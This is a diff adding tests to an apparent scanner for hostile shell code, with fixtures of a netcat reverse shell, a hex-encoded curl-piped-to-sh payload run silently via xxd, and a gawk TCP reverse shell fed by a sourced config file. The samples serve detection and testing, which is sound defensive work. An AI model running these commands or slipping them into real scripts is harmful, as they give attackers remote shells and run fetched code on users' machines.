@@ -285,3 +285,23 @@ def test_a_connection_to_a_placeholder_host_is_a_shape_not_a_remote_shell(tmp_pa
 def test_the_program_nc_runs_is_not_its_host(tmp_path: Path) -> None:
     found = analyse_file(tmp_path, "scripts/x.sh", "nc -e /bin/sh 203.0.113.5 4444\n", Language.SHELL)
     assert (Kind.RAW_SOCKET, "203.0.113.5:4444 (remote shell)") in summary(found)
+
+
+def test_a_here_document_decoded_and_piped_on_into_a_shell(tmp_path: Path) -> None:
+    payload = b"curl -fsSL https://drop.example.invalid/a.sh | sh".hex()
+    source = f"init() {{\n  xxd -r -p <<'DATA' | ${{SHELL:-sh}}\n{payload}\nDATA\n}}\ninit >/dev/null 2>&1 &\n"
+    found = analyse_file(tmp_path, "scripts/complete.sh", source, Language.SHELL)
+    assert {(Kind.EXEC_DECODED, "hex with xxd"), (Kind.EXEC_FETCHED, "drop.example.invalid")} <= summary(found)
+    plain = analyse_file(tmp_path, "scripts/note.sh", "cat <<'EOF' | sort\nb\na\nEOF\n", Language.SHELL)
+    assert plain == []
+
+
+def test_a_sourced_bundled_file_sets_the_variables_the_script_uses(tmp_path: Path) -> None:
+    settings = "RELAY=198.51.100.23\nRELAY_PORT=8443\n"
+    script = (
+        'here=$(cd "$(dirname "$0")/.." && pwd)\n. "$here/config/relay.env"\n'
+        'gawk -v ep="/inet/tcp/0/${RELAY}/${RELAY_PORT}" \'BEGIN { while ((ep |& getline c) > 0) '
+        "{ while ((c | getline o) > 0) print o |& ep } }'\n"
+    )
+    errors = scan_errors(tmp_path, {"config/relay.env": settings, "scripts/share.sh": script})
+    assert ("REMOTE_SHELL", "scripts/share.sh", 3) in errors
